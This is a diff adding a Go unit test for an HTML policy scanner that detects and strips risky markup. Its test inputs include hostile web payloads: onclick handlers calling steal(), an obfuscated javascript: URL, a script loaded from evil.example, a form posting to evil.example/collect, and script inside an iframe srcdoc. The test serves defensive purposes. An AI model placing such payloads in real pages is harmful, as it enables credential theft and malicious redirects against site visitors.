@@ -0,0 +1,73 @@
+package services
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/oldweipro/design-ai/models"
+)
+
+func TestHTMLPolicyScan(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		rules   []string
+		absent  string // 开启 Strip 后不应再出现的内容
+	}{
+		{"safe content", `<div class="card"><a href="/about">About</a><img src="logo.png"></div>`, nil, ""},
+		{"event handler", `<button onclick="steal()">Go</button>`, []string{models.FindingEventHandler}, "onclick"},
+		{"javascript url", `<a href=" jav&#x09;ascript:alert(1)">x</a>`, []string{models.FindingJavascriptURL}, "alert"},
+		{"external script", `<script src="https://evil.example/x.js"></script>`, []string{models.FindingExternalScript}, "evil.example"},
+		{"trusted script", `<script src="https://cdn.trusted.example/x.js"></script>`, nil, ""},
+		{"inline script", `<script>console.log(1)</script>`, nil, ""},
+		{"foreign form", `<form action="https://evil.example/collect"><input name="q"></form>`, []string{models.FindingForeignForm}, "evil.example"},
+		{"local form", `<form action="/search"></form>`, nil, ""},
+		{"tracking pixel", `<img src="https://t.example/p.gif" width="1" height="1">`, []string{models.FindingTrackingPixel}, "t.example"},
+		{"external image", `<img src="https://img.example/photo.jpg" width="400" height="300">`, nil, ""},
+		{"iframe srcdoc", `<iframe srcdoc="&lt;script&gt;parent.steal()&lt;/script&gt;"></iframe>`, []string{models.FindingIframeSrcdoc}, "srcdoc"},
+		{"empty iframe srcdoc", `<iframe srcdoc></iframe>`, []string{models.FindingIframeSrcdoc}, "srcdoc"},
+		{"iframe src", `<iframe src="/embed"></iframe>`, nil, ""},
+		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, []string{models.FindingMetaRefresh}, "evil.example"},
+		{"meta refresh in document", `<!DOCTYPE html><html><head><meta http-equiv=" Refresh " content="5"></head><body>x</body></html>`, []string{models.FindingMetaRefresh}, "http-equiv"},
+		{"meta charset", `<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="content-type" content="text/html"></head><body></body></html>`, nil, ""},
+		{
+			"multiple findings",
+			`<div onmouseover="x()"><iframe srcdoc="<b>hi</b>" onload="y()"></iframe></div>`,
+			[]string{models.FindingEventHandler, models.FindingIframeSrcdoc, models.FindingEventHandler},
+			"srcdoc",
+		},
+	}
+	hs := NewHTMLPolicyService()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			options := HTMLPolicyOptions{TrustedScriptHosts: []string{"cdn.trusted.example"}}
+			content, findings := hs.Scan(tt.content, options)
+			if content != tt.content {
+				t.Errorf("Scan() without Strip changed the content to %q", content)
+			}
+			if len(findings) != len(tt.rules) {
+				t.Fatalf("Scan() found %+v, want rules %v", findings, tt.rules)
+			}
+			for i, finding := range findings {
+				if finding.Rule != tt.rules[i] {
+					t.Errorf("finding %d rule = %q, want %q", i, finding.Rule, tt.rules[i])
+				}
+				if finding.Stripped {
+					t.Errorf("finding %d is marked stripped without Strip", i)
+				}
+			}
+
+			options.Strip = true
+			stripped, findings := hs.Scan(tt.content, options)
+			if len(findings) != len(tt.rules) {
+				t.Fatalf("Scan() with Strip found %d findings, want %d", len(findings), len(tt.rules))
+			}
+			if tt.absent != "" && strings.Contains(stripped, tt.absent) {
+				t.Errorf("stripped content %q still contains %q", stripped, tt.absent)
+			}
+			if len(tt.rules) == 0 && stripped != tt.content {
+				t.Errorf("safe content was rewritten to %q", stripped)
+			}
+		})
+	}
+}